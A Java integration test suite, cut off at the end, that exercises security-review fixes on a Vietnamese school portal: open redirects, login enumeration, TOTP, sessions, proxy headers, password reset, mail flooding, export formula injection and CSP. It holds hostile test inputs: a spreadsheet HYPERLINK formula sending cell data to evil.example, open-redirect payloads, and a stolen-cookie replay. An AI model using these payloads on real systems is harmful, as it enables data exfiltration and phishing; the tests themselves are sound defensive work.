package vn.edu.portal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.net.HttpCookie;
import java.net.URI;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ThreadLocalRandom;
import java.util.function.Supplier;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import vn.edu.portal.it.AdminActions;
import vn.edu.portal.it.AdmissionSteps;
import vn.edu.portal.it.Deployments;
import vn.edu.portal.it.FromAddress;
import vn.edu.portal.it.ItAccounts;
import vn.edu.portal.it.PortalClient;
import vn.edu.portal.it.ProcedureActions;
import vn.edu.portal.it.Samples;
import vn.edu.portal.platform.Exports;
import vn.edu.portal.security.Totp;

/**
 * The findings of the security review (issue 16), each over HTTP against the real server: every
 * test here failed on the code before its fix. Visitors whose address matters come from loopback
 * addresses of their own ({@link FromAddress}); 127.0.0.2 is the trusted reverse proxy the test
 * deployment is configured with ({@code PORTAL_SECURITY_TRUSTED_PROXIES}).
 */
@org.junit.jupiter.api.TestInstance(org.junit.jupiter.api.TestInstance.Lifecycle.PER_CLASS)
abstract class SecurityReviewChecks {

    private static final int YEAR = 2061;
    private static final String ONE_ANSWER = "Không đăng nhập được: tên đăng nhập, mật khẩu hoặc mã xác thực 2 lớp không đúng,"
            + " hoặc cần chờ ít phút trước khi thử lại.";
    private static final String HOSTILE = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")";

    private PortalClient department;
    private String school;
    private String schoolAdmin;

    @BeforeAll
    void aSchoolAndItsAdmin() {
        department = AdminActions.loginAsDepartmentAdmin();
        school = ItAccounts.uniqueSlug("ssr");
        PortalClient.Page created = department.submit(department.get("/admin/truong"), "create", Map.of("name",
                "Trường Tiểu học Rà Soát", "slug", school, "level", "PRIMARY", "templateKey", "tieu-hoc", "ownership", "PUBLIC",
                "district", HOSTILE, "address", "1 Đường Thử", "phone", "028 1234 5678", "principal", "Nguyễn Văn Thử"), "submit");
        assertTrue(created.text().contains("Đã tạo trang"), created.text());
        schoolAdmin = school + ".admin";
        AdminActions.createAccount(department, school, schoolAdmin, "SCHOOL_ADMIN");
    }

    private static String randomLoopback() {
        ThreadLocalRandom r = ThreadLocalRandom.current();
        return "127." + r.nextInt(1, 250) + "." + r.nextInt(1, 250) + "." + r.nextInt(3, 250);
    }

    private static String shortToken() {
        return Long.toString(System.nanoTime() % 1_000_000_000L, 36) + ThreadLocalRandom.current().nextInt(100, 999);
    }

    private String newStaff(String role) {
        String username = school + "." + role.toLowerCase(java.util.Locale.ROOT).charAt(0) + shortToken();
        AdminActions.createAccount(department, school, username, role);
        return username;
    }

    private static <T> T within(long millis, Supplier<T> attempt, java.util.function.Predicate<T> done) {
        long deadline = System.currentTimeMillis() + millis;
        T last = attempt.get();
        while (!done.test(last) && System.currentTimeMillis() < deadline) {
            last = attempt.get();
        }
        return last;
    }

    // 1. Open redirect

    @Test
    void noAddressRedirectsToAnotherHost() {
        int port = URI.create(Deployments.baseUrl()).getPort();
        List<String> hosts = List.of("localhost:" + port, school + ".localhost:" + port);
        List<String> targets = List.of("//evil.example/?lang=en", "///evil.example/?lang=vi", "/\\evil.example/?lang=en",
                "/\\/evil.example/?lang=en", "//evil.example/s/" + school + "/?lang=en", "//evil.example/admin/?lang=en",
                "/s/" + school, "/admin", "/admin/s/" + school, "//evil.example/admin", "/admin//evil.example",
                "/login?next=//evil.example/", "/login?next=/admin/%2F%2Fevil.example");
        FromAddress visitor = new FromAddress(randomLoopback());
        int redirects = 0;
        List<String> escaped = new ArrayList<>();
        for (String host : hosts) {
            for (String target : targets) {
                FromAddress.Answer answer = visitor.exchange("GET", target, Map.of("Host", host), null);
                if (answer.status() / 100 == 3) {
                    redirects++;
                    URI to = URI.create("http://" + host + "/").resolve(answer.header("Location").replace("\\", "%5C"));
                    if (!("http://" + host).equals(to.getScheme() + "://" + to.getAuthority())) {
                        escaped.add(host + " " + target + " -> " + answer.header("Location"));
                    }
                }
            }
        }
        assertTrue(redirects >= 12, "most of these addresses redirect: " + redirects);
        assertEquals(List.of(), escaped, "redirects that leave the host");

        // After a login, "next" is a path of the console only.
        PortalClient staff = new PortalClient();
        PortalClient.Page login = staff.get("/login?next=%2F%2Fevil.example%2F");
        PortalClient.Page in = staff.submit(login, "login", Map.of("username", schoolAdmin, "password", ItAccounts.STAFF_PASSWORD),
                "submit");
        assertEquals("/admin/", in.uri().getPath());
        assertEquals(URI.create(Deployments.baseUrl()).getAuthority(), in.uri().getAuthority());
    }

    // 2. Search index after rename, unpublish, trash and delete, for every content type

    @Test
    void withdrawnContentLeavesTheSearchIndexOfTheSchoolAndTheDepartment() {
        PortalClient admin = AdminActions.loggedIn(schoolAdmin, ItAccounts.STAFF_PASSWORD);
        String word = "tk" + shortToken();
        String base = "/admin/s/" + school + "/";

        // A page: renamed (new slug), unpublished, published again, deleted.
        PortalClient.Page page = admin.submit(admin.get(base + "trang"), "page", Map.of("title", "Trang " + word, "slug",
                "trang-" + word, "body_input", "<p>Nội dung " + word + "</p>", "position", "5", "published", "true"), "save");
        assertTrue(page.text().contains("Đã lưu trang"), page.text());
        assertFound(word, "trang/trang-" + word);
        String pageId = admin.get(base + "trang").doc().select("#tree a").stream().filter(a -> a.text().equals("Trang " + word))
                .findFirst().orElseThrow().attr("href").replaceAll(".*id=", "");
        admin.submit(admin.get(base + "trang?id=" + pageId), "page", Map.of("slug", "doi-ten-" + word), "save");
        assertFound(word, "trang/doi-ten-" + word);
        assertNotFound(word, "trang/trang-" + word, "the old slug of a renamed page");
        admin.submit(admin.get(base + "trang?id=" + pageId), "page", Map.of("published", "false"), "save");
        assertNotFound(word, "trang/", "an unpublished page");
        admin.submit(admin.get(base + "trang?id=" + pageId), "page", Map.of("published", "true", "slug", "lan-ba-" + word), "save");
        assertFound(word, "trang/lan-ba-" + word);
        PortalClient.Page pages = admin.get(base + "trang");
        Element delete = pages.doc().select("#tree tr, #tree li").stream().filter(r -> r.text().contains("Trang " + word))
                .findFirst().orElseThrow().selectFirst("input[type=submit], button");
        assertNotNull(delete, "a delete button on the page's row");
        admin.submit(pages, delete.attr("name").substring(0, delete.attr("name").indexOf(':')), Map.of(),
                delete.attr("name").substring(delete.attr("name").indexOf(':') + 1));
        assertNotFound(word, "trang/", "a deleted page");

        // An article: published, renamed, unpublished, published again, trashed.
        String articleWord = "bv" + shortToken();
        PortalClient.Page article = admin.submit(admin.get(base + "bai-viet/soan"), "edit", Map.of("title", "Tin " + articleWord,
                "summary", "Tóm tắt", "body_input", "<p>Bài " + articleWord + "</p>"), "publish");
        String articleId = article.uri().getQuery().substring(3);
        assertFound(articleWord, "bai-viet/");
        admin.submit(admin.get(base + "bai-viet/soan?id=" + articleId), "edit", Map.of("title", "Tin mới " + articleWord,
                "slug", "tin-moi-" + articleWord), "save");
        assertFound(articleWord, "bai-viet/tin-moi-" + articleWord);
        admin.submit(admin.get(base + "bai-viet/soan?id=" + articleId), "review", Map.of(), "unpublish");
        assertNotFound(articleWord, "bai-viet/", "an unpublished article");
        admin.submit(admin.get(base + "bai-viet/soan?id=" + articleId), "edit", Map.of(), "publish");
        assertFound(articleWord, "bai-viet/");
        admin.submit(admin.get(base + "bai-viet/soan?id=" + articleId), "review", Map.of(), "trash");
        assertNotFound(articleWord, "bai-viet/", "a trashed article");

        // An official document: published, renumbered, unpublished, published again, deleted.
        String docWord = "vb" + shortToken();
        Map<String, String> document = new HashMap<>(Map.of("number", "1/" + docWord, "type", "KE_HOACH", "issuer",
                "Trường Tiểu học Rà Soát", "issuedOn", "02/03/2026", "summary", "Kế hoạch " + docWord, "published", "true"));
        PortalClient.Page saved = admin.submitFile(admin.get(base + "van-ban"), "doc", document, "file", "kh.pdf",
                "application/pdf", Samples.pdf(), "save");
        assertTrue(saved.text().contains("Đã lưu văn bản"), saved.text());
        assertFound(docWord, "van-ban");
        String docId = admin.get(base + "van-ban").doc().select("#list a").stream().filter(a -> a.text().contains(docWord))
                .findFirst().orElseThrow().attr("href").replaceAll(".*id=", "");
        admin.submit(admin.get(base + "van-ban?id=" + docId), "doc", Map.of("number", "2/" + docWord), "save");
        assertFound(docWord, "van-ban?so=2");
        admin.submit(admin.get(base + "van-ban?id=" + docId), "doc", Map.of("published", "false"), "save");
        assertNotFound(docWord, "van-ban", "an unpublished document");
        admin.submit(admin.get(base + "van-ban?id=" + docId), "doc", Map.of("published", "true"), "save");
        assertFound(docWord, "van-ban");
        PortalClient.Page documents = admin.get(base + "van-ban");
        Element row = documents.doc().select("tr").stream().filter(r -> r.text().contains("2/" + docWord)).findFirst().orElseThrow();
        Element remove = row.selectFirst("input[type=submit]");
        String name = remove.attr("name");
        admin.submit(documents, name.substring(0, name.indexOf(':')), Map.of(), name.substring(name.indexOf(':') + 1));
        assertNotFound(docWord, "van-ban", "a deleted document");

        // Albums are not indexed at all.
        String albumWord = "al" + shortToken();
        admin.submit(admin.get(base + "album"), "album", Map.of("title", "Album " + albumWord, "published", "true"), "save");
        assertNotFound(albumWord, "anh", "albums are not searchable");
    }

    private void assertFound(String word, String link) {
        for (String where : List.of("/s/" + school + "/tim-kiem?q=", "/tim-kiem?q=")) {
            PortalClient.Page found = within(8000, () -> new PortalClient().get(where + word),
                    p -> p.doc().select(".search-results .search-title a[href*='" + link + "']").size() > 0);
            assertFalse(found.doc().select(".search-results .search-title a[href*='" + link + "']").isEmpty(), where + word + " finds " + link + ": " + found.text());
        }
    }

    private void assertNotFound(String word, String link, String what) {
        for (String where : List.of("/s/" + school + "/tim-kiem?q=", "/tim-kiem?q=")) {
            PortalClient.Page found = within(8000, () -> new PortalClient().get(where + word),
                    p -> p.doc().select(".search-results .search-title a[href*='" + link + "']").isEmpty());
            assertTrue(found.doc().select(".search-results .search-title a[href*='" + link + "']").isEmpty(), what + " is still found at " + where + ": "
                    + found.doc().select(".search-results .search-title a[href*='" + link + "']"));
        }
    }

    // 4. Login: one answer, growing delays instead of a lock, the code checked after the password

    @Test
    void everyFailedLoginGetsOneAnswerAndNobodyCanLockTheOwnerOut() {
        String owner = newStaff("EDITOR");
        String unknown = "khong-co-ai-" + shortToken();
        FromAddress attacker = new FromAddress(randomLoopback());
        List<String> answers = new ArrayList<>();
        List<Integer> statuses = new ArrayList<>();
        for (String name : List.of(owner, unknown)) {
            for (int i = 0; i < 6; i++) {
                FromAddress.Answer failed = attacker.login(attacker.get("/login"), name, "Doan-Sai-" + i);
                statuses.add(failed.status());
                answers.add(failed.doc().select(".msg-error, .messages li, .ui-messages-error").text());
            }
        }
        assertEquals(1, answers.stream().distinct().count(), "one answer: " + answers);
        assertTrue(answers.get(0).contains(ONE_ANSWER), answers.get(0));
        assertEquals(java.util.Collections.nCopies(12, 401), statuses, "a real and an unknown name behave alike: " + statuses);

        // The owner, from his own address, is in once the short delay has passed: no 15-minute lock.
        PortalClient.Page in = within(30_000, () -> new PortalClient().login(owner, ItAccounts.STAFF_PASSWORD),
                p -> p.uri().getPath().equals("/admin/"));
        assertEquals("/admin/", in.uri().getPath(), in.text());

        // Failed and delayed logins are in the audit log, with the address they came from.
        // Searched, as the department reads a busy log: other tests write to it at the same time.
        PortalClient.Page logPage = department.get("/admin/nhat-ky?q=" + unknown);
        String log = logPage.text();
        assertTrue(log.contains("login.failed") && log.contains(unknown), "failed logins audited");
        // Written with plain SQL outside the request's transaction, read through JPA: the time as it happened.
        String shown = logPage.doc().select("tr:contains(login.failed) td").first().text();
        java.time.LocalDateTime at = java.time.LocalDateTime.parse(shown, java.time.format.DateTimeFormatter.ofPattern("dd/MM/yyyy HH:mm"));
        java.time.LocalDateTime now = java.time.LocalDateTime.now(java.time.ZoneId.of("Asia/Ho_Chi_Minh"));
        assertTrue(Math.abs(java.time.Duration.between(at, now).toMinutes()) <= 5, "audited at " + shown + ", now " + now);
    }

    @Test
    void aRightCodeWithAWrongPasswordTellsNothingAndIsNotUsedUp() {
        String username = newStaff("EDITOR");
        String secret = turnOnTotp(username);
        long now = java.time.Instant.now().getEpochSecond();
        String code = Totp.codeAt(secret, now + 30);
        FromAddress guesser = new FromAddress(randomLoopback());
        FromAddress.Answer wrong = guesser.exchange("POST", "/login", Map.of(), loginForm(guesser.get("/login"), username,
                "Sai-Mat-Khau-123", code));
        assertEquals(401, wrong.status());
        assertTrue(wrong.doc().text().contains(ONE_ANSWER), wrong.doc().text());
        FromAddress.Answer noCode = guesser.exchange("POST", "/login", Map.of(), loginForm(guesser.get("/login"), username,
                ItAccounts.STAFF_PASSWORD, "000000"));
        assertTrue(noCode.doc().text().contains(ONE_ANSWER), "the same answer with a wrong code: " + noCode.doc().text());
        PortalClient owner = new PortalClient();
        PortalClient.Page in = owner.submit(owner.get("/login"), "login",
                Map.of("username", username, "password", ItAccounts.STAFF_PASSWORD, "code", code), "submit");
        assertEquals("/admin/", in.uri().getPath(), "the code was not used up by the wrong password: " + in.text());
    }

    private static Map<String, String> loginForm(FromAddress.Answer page, String username, String password, String code) {
        Map<String, String> form = new LinkedHashMap<>();
        form.put("login", "login");
        form.put("login:next", "");
        form.put("login:username", username);
        form.put("login:password", password);
        form.put("login:code", code);
        form.put("login:submit", "x");
        form.put("jakarta.faces.ViewState", page.doc().select("input[name=jakarta.faces.ViewState]").val());
        return form;
    }

    /** Turns the second factor on (the password is asked first); returns the secret. */
    private String turnOnTotp(String username) {
        PortalClient staff = AdminActions.loggedIn(username, ItAccounts.STAFF_PASSWORD);
        PortalClient.Page started = staff.submit(staff.get("/admin/bao-mat"), "start",
                Map.of("password", ItAccounts.STAFF_PASSWORD), "go");
        String secret = started.doc().getElementById("totp-secret").text();
        PortalClient.Page on = staff.submit(started, "totp",
                Map.of("code", Totp.codeAt(secret, java.time.Instant.now().getEpochSecond())), "confirm");
        assertEquals("Đang bật", on.doc().getElementById("totp-status").text(), on.text());
        return secret;
    }

    // 5. Sessions

    @Test
    void changingOrResettingThePasswordEndsEveryOtherSession() {
        String username = newStaff("EDITOR");
        PortalClient first = AdminActions.loggedIn(username, ItAccounts.STAFF_PASSWORD);
        PortalClient second = AdminActions.loggedIn(username, ItAccounts.STAFF_PASSWORD);
        String newPassword = "Mat-Khau-Moi-" + shortToken();
        PortalClient.Page changed = first.submit(first.get("/admin/mat-khau"), "pw",
                Map.of("current", ItAccounts.STAFF_PASSWORD, "password", newPassword, "confirm", newPassword), "submit");
        assertTrue(changed.text().contains("Đã đổi mật khẩu"), changed.text());
        assertEquals("/admin/", first.get("/admin/").uri().getPath(), "the session that changed it carries on");
        assertEquals("/login", second.get("/admin/").uri().getPath(), "the other session is over");

        // An admin resets it: every session ends, and the next login must choose a new password first.
        PortalClient admin = AdminActions.loggedIn(schoolAdmin, ItAccounts.STAFF_PASSWORD);
        PortalClient.Page accounts = admin.get("/admin/s/" + school + "/tai-khoan");
        String accountId = accounts.doc().select("#reset\\:resetAccount option").stream().filter(o -> o.text().equals(username))
                .findFirst().orElseThrow().attr("value");
        String byAdmin = "Dat-Boi-Admin-" + shortToken();
        PortalClient.Page reset = admin.submit(accounts, "reset", Map.of("resetAccount", accountId, "newPassword", byAdmin), "submit");
        assertTrue(reset.text().contains("Đã đặt lại mật khẩu"), reset.text());
        assertEquals("/login", first.get("/admin/").uri().getPath(), "a reset ends the owner's session too");
        PortalClient again = new PortalClient();
        PortalClient.Page forced = again.login(username, byAdmin);
        assertEquals("/admin/mat-khau", forced.uri().getPath(), "forced to choose a password: " + forced.text());
        assertEquals("/admin/mat-khau", again.get("/admin/s/" + school + "/bai-viet").uri().getPath(), "nothing else opens");
        String own = "Cua-Rieng-Toi-" + shortToken();
        again.submit(again.get("/admin/mat-khau"), "pw", Map.of("current", byAdmin, "password", own, "confirm", own), "submit");
        assertEquals(200, again.get("/admin/s/" + school + "/bai-viet").status());
    }

    @Test
    void theSessionIdAloneIsNoSessionAndTheCookiesSaySameSite() throws IOException {
        PortalClient staff = new PortalClient();
        PortalClient.Page login = staff.get("/login");
        String sessionCookie = login.headers().allValues("Set-Cookie").stream().filter(c -> c.startsWith("PORTALSESSION="))
                .findFirst().orElseThrow();
        assertTrue(sessionCookie.toLowerCase(java.util.Locale.ROOT).contains("samesite=lax"), sessionCookie);
        PortalClient.Page in = staff.submit(login, "login", Map.of("username", schoolAdmin, "password", ItAccounts.STAFF_PASSWORD),
                "submit");
        assertEquals("/admin/", in.uri().getPath());
        HttpCookie session = cookie(staff, "PORTALSESSION");
        HttpCookie token = cookie(staff, "PORTALAUTH");
        assertTrue(token.isHttpOnly());
        assertTrue(token.getValue().length() >= 22, "128 random bits: " + token.getValue());
        PortalClient thief = new PortalClient();
        thief.cookies().put(URI.create(Deployments.baseUrl()), Map.of("Set-Cookie", List.of("PORTALSESSION=" + session.getValue()
                + "; Path=/; HttpOnly")));
        assertEquals("/login", thief.get("/admin/").uri().getPath(), "the session id without its token opens nothing");
        assertEquals("/login", staff.get("/admin/").uri().getPath(), "and the session it was taken from is ended");
    }

    private static HttpCookie cookie(PortalClient client, String name) {
        return client.cookies().getCookieStore().getCookies().stream().filter(c -> c.getName().equals(name)).findFirst()
                .orElseThrow(() -> new AssertionError("no cookie " + name));
    }

    @Test
    void behindTheTrustedProxyCookiesAreSecureHstsIsSentAndTheRealAddressIsAudited() {
        Map<String, String> forwarded = Map.of("X-Forwarded-Proto", "https", "X-Forwarded-For", "203.0.113.7, 198.51.100.9");
        FromAddress proxy = new FromAddress("127.0.0.2");
        FromAddress.Answer page = proxy.exchange("GET", "/login", forwarded, null);
        assertTrue(page.header("Strict-Transport-Security").startsWith("max-age="), "HSTS over HTTPS: " + page.headers());
        String name = "qua-proxy-" + shortToken();
        FromAddress.Answer failed = proxy.exchange("POST", "/login", forwarded, loginForm(page, name, "Sai-Mat-Khau-1", ""));
        assertEquals(401, failed.status());
        FromAddress.Answer in = proxy.exchange("POST", "/login", forwarded, loginForm(proxy.exchange("GET", "/login", forwarded, null),
                schoolAdmin, ItAccounts.STAFF_PASSWORD, ""));
        List<String> cookies = in.headers().getOrDefault("set-cookie", List.of());
        assertTrue(cookies.stream().filter(c -> c.startsWith("PORTALAUTH=")).allMatch(c -> c.contains("Secure")) && !cookies.isEmpty(),
                "the session's token is Secure behind an HTTPS proxy: " + cookies);

        FromAddress stranger = new FromAddress("127.0.0.3");
        FromAddress.Answer direct = stranger.exchange("GET", "/login", forwarded, null);
        assertEquals("", direct.header("Strict-Transport-Security"), "headers from anyone else are ignored");
        String other = "khong-qua-proxy-" + shortToken();
        stranger.exchange("POST", "/login", forwarded, loginForm(direct, other, "Sai-Mat-Khau-2", ""));

        Map<String, String> ipOf = new HashMap<>();
        for (Element tr : department.get("/admin/nhat-ky").doc().select("tbody tr")) {
            var td = tr.select("td");
            if (td.size() == 6 && td.get(3).text().equals("login.failed")) {
                ipOf.putIfAbsent(td.get(1).text(), td.get(5).text());
            }
        }
        assertEquals("198.51.100.9", ipOf.get(name), "the client the trusted proxy named: " + ipOf);
        assertEquals("127.0.0.3", ipOf.get(other), "a forged X-Forwarded-For is not believed");
    }

    // 6. Second factor and re-authentication

    @Test
    void theSecondFactorNeedsThePasswordAndWrongPasswordsSlowDownAndAreAudited() {
        String username = newStaff("EDITOR");
        PortalClient staff = AdminActions.loggedIn(username, ItAccounts.STAFF_PASSWORD);
        PortalClient.Page none = staff.submit(staff.get("/admin/bao-mat"), "start", Map.of(), "go");
        assertNull(none.doc().getElementById("totp-secret"), "a session alone cannot start a second factor");
        List<String> errors = new ArrayList<>();
        for (int i = 0; i < 5; i++) {
            PortalClient.Page wrong = staff.submit(staff.get("/admin/mat-khau"), "pw", Map.of("current", "Sai-Hien-Tai-" + i,
                    "password", "Khong-Duoc-Doi-123", "confirm", "Khong-Duoc-Doi-123"), "submit");
            errors.add(wrong.fieldError("pw:current"));
        }
        assertEquals("Mật khẩu hiện tại không đúng.", errors.get(0));
        assertTrue(errors.get(4).contains("thử lại sau"), "wrong current passwords slow down: " + errors);
        String log = department.get("/admin/nhat-ky").text();
        assertTrue(log.contains("account.reauth.failed") && log.contains(username), "wrong current passwords are audited");
    }

    // 7. Passwords

    @Test
    void commonPasswordsAreRefusedAndStaffResetTheirPasswordByAnEmailedLinkOnce() {
        PortalClient admin = AdminActions.loggedIn(schoolAdmin, ItAccounts.STAFF_PASSWORD);
        PortalClient.Page common = admin.submit(admin.get("/admin/s/" + school + "/tai-khoan"), "create", Map.of("username",
                school + ".pho-bien", "fullName", "Cán bộ", "email", "", "password", "1234567890", "role", "EDITOR"), "submit");
        assertTrue(common.fieldError("create:password").contains("quá phổ biến"), common.fieldError("create:password"));

        String username = newStaff("EDITOR");
        String email = username + "@example.edu.vn";
        PortalClient forgetful = new PortalClient();
        PortalClient.Page asked = forgetful.submit(forgetful.get("/quen-mat-khau"), "forgot", Map.of("who", username), "send");
        PortalClient stranger = new PortalClient();
        PortalClient.Page unknown = stranger.submit(stranger.get("/quen-mat-khau"), "forgot",
                Map.of("who", "khong-co-" + shortToken()), "send");
        assertEquals(asked.doc().getElementById("sent").text(), unknown.doc().getElementById("sent").text(), "the same answer");
        String body = AdmissionSteps.mailBodies(department, email, "Đặt lại mật khẩu").stream().findFirst().orElseThrow();
        Matcher link = Pattern.compile("https?://\\S+/dat-lai-mat-khau\\?t=([A-Za-z0-9_-]{43})").matcher(body);
        assertTrue(link.find(), body);
        PortalClient other = AdminActions.loggedIn(username, ItAccounts.STAFF_PASSWORD);
        String target = "/dat-lai-mat-khau?t=" + link.group(1);
        String chosen = "Mat-Khau-Qua-Thu-" + shortToken();
        PortalClient.Page done = forgetful.submit(forgetful.get(target), "reset", Map.of("password", chosen, "confirm", chosen), "save");
        assertTrue(done.uri().toString().contains("/login?reset=done"), done.uri() + " " + done.text());
        assertEquals("/login", other.get("/admin/").uri().getPath(), "the sessions of the account ended");
        AdminActions.loggedIn(username, chosen);
        PortalClient.Page twice = new PortalClient().get(target);
        assertNotNull(twice.doc().getElementById("link-invalid"), "a link works once");
        assertTrue(department.get("/admin/nhat-ky").text().contains("account.resetPassword.self"), "audited");
    }

    // 8. Mail flooding

    @Test
    void oneEmailAddressGetsAFewCodesWhateverTheDraft() {
        PortalClient admin = AdminActions.loggedIn(schoolAdmin, ItAccounts.STAFF_PASSWORD);
        String slug = "don-ma-" + shortToken();
        ProcedureActions.createProcedure(admin, school, slug, "Đơn thử mã", List.of(
                new ProcedureActions.Row("Hồ sơ", "ho_ten", "TEXT", "Họ tên", true, "", false)));
        String victim = "nan-nhan." + shortToken() + "@example.vn";
        List<String> answers = new ArrayList<>();
        for (int i = 0; i < 9; i++) {
            PortalClient flooder = new PortalClient();
            PortalClient.Page step = flooder.get("/s/" + school + "/thu-tuc/" + slug + "/nop");
            PortalClient.Page contact = flooder.submitPlain(step, "apply-form", Map.of("f_ho_ten", "Người Thử"), "next", null, null,
                    null, null);
            PortalClient.Page code = flooder.submitPlain(contact, "apply-form", Map.of("email", victim, "consent", "on"), "next",
                    null, null, null, null);
            answers.add(code.doc().selectFirst("input[name=code]") != null ? "code" : "refused");
        }
        assertEquals(8, ProcedureActions.subjectsTo(victim).size(), "eight codes a day to one address: " + answers);
        assertEquals("refused", answers.get(8), answers.toString());
    }

    // 9. Exports

    @Test
    void noCsvOrXlsxExportHoldsALiveFormula() throws Exception {
        PortalClient.Page round = AdmissionSteps.createCampaign(department, YEAR, true);
        AdmissionSteps.addSchool(department, round, school, 1, 10, "Phường Rà Soát");
        PortalClient admin = AdminActions.loggedIn(schoolAdmin, ItAccounts.STAFF_PASSWORD);
        ProcedureActions.createProcedure(admin, school, "thu-" + shortToken(), HOSTILE, List.of(
                new ProcedureActions.Row("Hồ sơ", "ho_ten", "TEXT", "Họ tên", true, "", false)));
        Map<String, String> csv = new LinkedHashMap<>();
        csv.put("/tuyen-sinh/so-lieu.csv", new PortalClient().get("/tuyen-sinh/so-lieu.csv").body());
        csv.put("/tuyen-sinh/du-lieu-xet-tuyen.csv", new PortalClient().get("/tuyen-sinh/du-lieu-xet-tuyen.csv").body());
        csv.put("cong-khai/du-lieu.csv", new PortalClient().get("/s/" + school + "/cong-khai/du-lieu.csv").body());
        assertTrue(csv.get("/tuyen-sinh/so-lieu.csv").contains("HYPERLINK"), "the hostile district is exported");
        for (var file : csv.entrySet()) {
            for (CSVRecord record : CSVFormat.RFC4180.builder().setCommentMarker('#').get().parse(new StringReader(file.getValue()))) {
                for (String field : record) {
                    assertFalse(Exports.liveFormula(field), file.getKey() + " line " + record.getRecordNumber() + ": " + field);
                }
            }
        }
        Map<String, byte[]> xlsx = new LinkedHashMap<>();
        xlsx.put("procedure statistics", department.download(department.get("/admin/thu-tuc"), "export", "xlsx"));
        String compliance = department.get("/admin/cong-khai").doc().getElementById("export").attr("href");
        xlsx.put("disclosure compliance", department.getBytes("/admin/cong-khai" + compliance.substring(compliance.indexOf('?'))));
        for (var file : xlsx.entrySet()) {
            int strings = 0;
            try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(file.getValue()))) {
                for (Sheet sheet : book) {
                    for (Row row : sheet) {
                        for (Cell cell : row) {
                            assertNotEquals(CellType.FORMULA, cell.getCellType(), file.getKey());
                            if (cell.getCellType() == CellType.STRING) {
                                strings++;
                                assertFalse(Exports.liveFormula(cell), file.getKey() + ": " + cell);
                            }
                        }
                    }
                }
            }
            assertTrue(strings > 0, file.getKey() + " was read");
        }
    }

    // 11. Headers

    @Test
    void staffPagesAllowNoInlineOrEvaluatedScriptAndNoAnswerNamesTheServer() {
        PortalClient admin = AdminActions.loggedIn(schoolAdmin, ItAccounts.STAFF_PASSWORD);
        for (String path : List.of("/login", "/admin/", "/admin/s/" + school + "/bai-viet/soan", "/admin/mat-khau")) {
            PortalClient.Page page = admin.get(path);
            List<String> policies = page.headers().allValues("Content-Security-Policy");
            assertEquals(1, policies.size(), path + ": " + policies);
            String policy = policies.get(0);
            assertFalse(policy.contains("unsafe-eval") || policy.matches(".*script-src[^;]*unsafe-inline.*"), path + ": " + policy);
            assertTrue(policy.matches(".*script-src 'self' 'nonce-[A-Za-z0-9+/=_-]{16,}'.*"), path + ": " + policy);
            for (Element script : page.doc().select("script")) {
                assertTrue(script.hasAttr("src") || policy.contains("'nonce-" + script.attr("nonce") + "'"),
                        path + ": inline script without this answer's nonce: " + script.outerHtml());
            }
            assertFalse(page.headers().firstValue("Server").orElse("").toLowerCase(java.util.Locale.ROOT).contains("payara"));
        }
        assertFalse(new PortalClient().get("/s/" + school + "/").headers().firstValue("Server").orElse("").contains("Payara"));
    }

    // 12. View state

    @Test
    void aForgedViewStateOrAnActionInAnAddressIsRefusedWith400AndAudited() {
        PortalClient admin = AdminActions.loggedIn(schoolAdmin, ItAccounts.STAFF_PASSWORD);
        String identity = "/admin/s/" + school + "/thong-tin";
        PortalClient.Page stateless = admin.postForm(identity, Map.of("identity", "identity", "identity:name", "Tên Bị Đổi",
                "identity:save", "x", "jakarta.faces.ViewState", "stateless"));
        assertEquals(400, stateless.status());
        assertTrue(stateless.text().contains("Yêu cầu không hợp lệ"), stateless.text());
        PortalClient.Page inAddress = admin.get("/admin/mat-khau?pw=pw&pw%3Asubmit=x&pw%3Acurrent=x&jakarta.faces.ViewState=stateless");
        assertEquals(400, inAddress.status());
        assertEquals(400, new PortalClient().get("/s/" + school + "/tuyen-sinh/dang-ky?apply=apply&jakarta.faces.ViewState=stateless")
                .status(), "public forms too");
        assertFalse(admin.get(identity).doc().getElementById("identity:name").val().contains("Bị Đổi"), "nothing changed");
        String log = department.get("/admin/nhat-ky").text();
        assertTrue(log.contains("view state that cannot be restored") && log.contains("JSF view state in a GET query string"), log);
    }

    // 13. Retention of the outbox and the codes

    @Test
    void parentsAddressesLeaveTheOutboxWithTheSubmissionTheyBelongedTo() {
        PortalClient admin = AdminActions.loggedIn(schoolAdmin, ItAccounts.STAFF_PASSWORD);
        String slug = "luu-ngan-" + shortToken();
        ProcedureActions.createProcedure(admin, school, slug, "Đơn lưu ngắn", List.of(
                new ProcedureActions.Row("Hồ sơ", "ho_ten", "TEXT", "Họ tên", true, "", false)), "0");
        String email = "phu.huynh." + shortToken() + "@example.vn";
        String tracking = ProcedureActions.submit(new PortalClient(), school, slug, Map.of("f_ho_ten", "Lê Lưu"), null, null, email)
                .tracking();
        String id = ProcedureActions.submissionId(admin, school, tracking);
        admin.submit(admin.get("/admin/s/" + school + "/ho-so/xem?id=" + id), "accept", Map.of("resultNote", "Xong"), "go");
        assertFalse(ProcedureActions.subjectsTo(email).isEmpty(), "messages went to the parent");
        PortalClient.Page ran = department.submit(department.get("/admin/thu-tuc"), "retention", Map.of(), "run");
        assertTrue(ran.text().contains("Đã xóa dữ liệu cá nhân của"), ran.text());
        assertTrue(ProcedureActions.subjectsTo(email).isEmpty(), "the outbox no longer holds the parent's address");
        assertFalse(department.get("/admin/hop-thu").body().contains(email));
    }

    /**
     * What a black-box probe of the public site found (each was a 500 or a wrong answer): a category
